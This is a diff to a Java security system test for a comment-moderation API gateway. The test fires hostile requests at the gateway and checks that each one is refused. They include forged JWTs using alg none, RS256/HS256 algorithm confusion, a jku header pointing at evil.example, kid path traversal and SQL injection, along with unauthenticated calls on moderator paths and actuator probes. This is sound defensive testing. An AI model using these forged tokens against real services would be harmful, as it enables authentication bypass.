+                "{\"username\":\"moderator\",\"password\":\"x\",\"password\":\"y\"}",
+                "application/json",
+                null,
                 "duplicate key"));
         // 11. Every method on every moderator path, and on an unlisted path, without a token: 401 (HEAD too,
         // which once answered 200 with a Content-Length that told the size of the queue).
-        List<String> moderatorPaths = List.of("/api/moderation/queue", "/api/moderation/rules",
-                "/api/moderation/comments/" + commentId + "/decisions", "/api/comments/" + commentId + "/history",
-                "/api/articles/" + articleId + "/close", "/api/articles/" + articleId + "/reopen", "/api/unlisted");
+        List<String> moderatorPaths = List.of(
+                "/api/moderation/queue",
+                "/api/moderation/rules",
+                "/api/moderation/comments/" + commentId + "/decisions",
+                "/api/comments/" + commentId + "/history",
+                "/api/articles/" + articleId + "/close",
+                "/api/articles/" + articleId + "/reopen",
+                "/api/unlisted");
         for (String path : moderatorPaths) {
             for (String method : List.of("HEAD", "OPTIONS", "GET", "POST", "PUT", "PATCH", "DELETE")) {
                 boolean hasBody = List.of("POST", "PUT", "PATCH").contains(method);
-                all.add(raw(gateway, method + " " + path, hasBody ? "{}" : null, hasBody ? "application/json" : null,
-                        null, "no token, " + method));
+                all.add(raw(
+                        gateway,
+                        method + " " + path,
+                        hasBody ? "{}" : null,
+                        hasBody ? "application/json" : null,
+                        null,
+                        "no token, " + method));
             }
         }
         // 12. Tokens signed with the real key whose claims must still be refused.
@@ -475,20 +704,41 @@ class HostileInputSystemTest {
         for (var bad : badClaims.entrySet()) {
             String forged = signed.sign(bad.getValue());
             all.add(raw(gateway, "GET /api/moderation/queue", null, null, forged, "signed token, " + bad.getKey()));
-            all.add(raw(gateway, "PUT /api/moderation/rules", "{\"bannedWords\":[]}", "application/json", forged,
+            all.add(raw(
+                    gateway,
+                    "PUT /api/moderation/rules",
+                    "{\"bannedWords\":[]}",
+                    "application/json",
+                    forged,
                     "signed token, " + bad.getKey()));
-            all.add(raw(gateway, "POST /api/articles/" + articleId + "/close", "{}", "application/json", forged,
+            all.add(raw(
+                    gateway,
+                    "POST /api/articles/" + articleId + "/close",
+                    "{}",
+                    "application/json",
+                    forged,
                     "signed token, " + bad.getKey()));
         }
         // 13. Operations endpoints are not on the public port.
-        for (String path : List.of("/actuator", "/actuator/prometheus", "/actuator/health", "/actuator/health/readiness",
-                "/actuator/info", "/actuator/metrics", "/actuator/env", "/actuator/heapdump")) {
+        for (String path : List.of(
+                "/actuator",
+                "/actuator/prometheus",
+                "/actuator/health",
+                "/actuator/health/readiness",
+                "/actuator/info",
+                "/actuator/metrics",
+                "/actuator/env",
+                "/actuator/heapdump")) {
             all.add(raw(gateway, "GET " + path, null, null, null, "actuator"));
         }
         all.add(raw(gateway, "HEAD /actuator/prometheus", null, null, null, "actuator"));
         all.add(raw(gateway, "GET /api/articles/" + randomComment, null, null, null, "unknown article"));
         all.add(raw(gateway, "GET /api/comments/" + randomComment, null, null, null, "unknown comment"));
-        all.add(json(gateway, "POST /api/articles/" + randomComment + "/comments", Map.of("author", "a", "text", "b"), null,
+        all.add(json(
+                gateway,
+                "POST /api/articles/" + randomComment + "/comments",
+                Map.of("author", "a", "text", "b"),
+                null,
                 "comment on unknown article"));
         return all;
     }
@@ -514,9 +764,15 @@ class HostileInputSystemTest {
         Mac mac = Mac.getInstance("HmacSHA256");
         mac.init(new SecretKeySpec(jwksModulus.getBytes(StandardCharsets.US_ASCII), "HmacSHA256"));
         String confusedInput = hs256 + "." + b64(claims);
-        String algorithmConfusion = confusedInput + "." + b64(mac.doFinal(confusedInput.getBytes(StandardCharsets.US_ASCII)));
+        String algorithmConfusion =
+                confusedInput + "." + b64(mac.doFinal(confusedInput.getBytes(StandardCharsets.US_ASCII)));
         return List.of(
-                "garbage", "a.b.c", "", "null", "Bearer", "x".repeat(3000),
+                "garbage",
+                "a.b.c",
+                "",
+                "null",
+                "Bearer",
+                "x".repeat(3000),
                 b64("{\"alg\":\"none\"}") + "." + b64(claims) + ".",
                 b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + b64(claims),
                 b64("{\"alg\":\"NONE\"}") + "." + b64(claims) + "." + fakeSignature,
@@ -524,35 +780,39 @@ class HostileInputSystemTest {
                 rs256 + "." + b64(expiredClaims) + "." + fakeSignature,
                 algorithmConfusion,
                 rs256 + "." + b64(claims.replace("comment-moderation", "evil")) + "." + fakeSignature,
-                b64("{\"alg\":\"RS256\",\"jku\":\"http://evil.example/jwks.json\",\"kid\":\"1\"}") + "." + b64(claims) + "."
-                        + fakeSignature,
+                b64("{\"alg\":\"RS256\",\"jku\":\"http://evil.example/jwks.json\",\"kid\":\"1\"}") + "." + b64(claims)
+                        + "." + fakeSignature,
                 b64("{\"alg\":\"RS256\",\"kid\":\"../../../../dev/null\"}") + "." + b64(claims) + "." + fakeSignature,
                 rs256 + "." + b64("' OR 1=1 --") + "." + fakeSignature);
     }
 
-    private static Hostile raw(URI gateway, String methodAndPath, String body, String contentType, String token,
-            String label) {
+    private static Hostile raw(
+            URI gateway, String methodAndPath, String body, String contentType, String token, String label) {
         int space = methodAndPath.indexOf(' ');
         String method = methodAndPath.substring(0, space);
         String path = methodAndPath.substring(space + 1);
-        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(gateway.toString().replaceAll("/$", "") + path))
+        HttpRequest.Builder request = HttpRequest.newBuilder(
+                        URI.create(gateway.toString().replaceAll("/$", "") + path))
                 .timeout(Duration.ofSeconds(30))
                 .header("Accept", "application/json, application/problem+json")
-                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
-                        : HttpRequest.BodyPublishers.ofString(body));
+                .method(
+                        method,
+                        body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
         if (contentType != null && body != null) {
             request.header("Content-Type", contentType);
         }
         if (token != null) {
             request.header("Authorization", "Bearer " + token);
         }
-        return new Hostile(label + " [" + methodAndPath.substring(0, Math.min(120, methodAndPath.length())) + "]", request);
+        return new Hostile(
+                label + " [" + methodAndPath.substring(0, Math.min(120, methodAndPath.length())) + "]", request);
     }
 
     private static Hostile bytes(URI gateway, String methodAndPath, byte[] body, String label) {
         Hostile hostile = raw(gateway, methodAndPath, null, null, null, label);
         int space = methodAndPath.indexOf(' ');
-        hostile.request().method(methodAndPath.substring(0, space), HttpRequest.BodyPublishers.ofByteArray(body))
+        hostile.request()
+                .method(methodAndPath.substring(0, space), HttpRequest.BodyPublishers.ofByteArray(body))
                 .header("Content-Type", "application/json");
         return hostile;
     }
@@ -606,7 +866,9 @@ class HostileInputSystemTest {
     /** What must not change: the article count, the known article, its comments, the queue, the rules. */
     private static Map<String, Object> snapshot(Api api, String token, String articleId) {
         Map<String, Object> state = new LinkedHashMap<>();
-        state.put("articles", api.get("/api/articles?page=0&size=1").body().path("total").asLong());
+        state.put(
+                "articles",
+                api.get("/api/articles?page=0&size=1").body().path("total").asLong());
         JsonNode article = api.get("/api/articles/" + articleId).body();
         for (String field : List.of("title", "body", "commentsOpen", "closedAt", "commentCount")) {
             state.put("article." + field, article.path(field).toString());
@@ -614,10 +876,19 @@ class HostileInputSystemTest {
         JsonNode comments = api.get(commentsPath(articleId)).body();
         state.put("comments.total", comments.path("total").asLong());
         state.put("comments", comments.path("comments").toString());
-        state.put("queue.total", api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/queue"))
-                .header("Authorization", "Bearer " + token)).body().path("total").asLong());
-        state.put("rules", api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/rules"))
-                .header("Authorization", "Bearer " + token)).response().body());
+        state.put(
+                "queue.total",
+                api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/queue"))
+                                .header("Authorization", "Bearer " + token))
+                        .body()
+                        .path("total")
+                        .asLong());
+        state.put(
+                "rules",
+                api.exchange(HttpRequest.newBuilder(api.gateway().resolve("/api/moderation/rules"))
+                                .header("Authorization", "Bearer " + token))
+                        .response()
+                        .body());
         return state;
     }
 
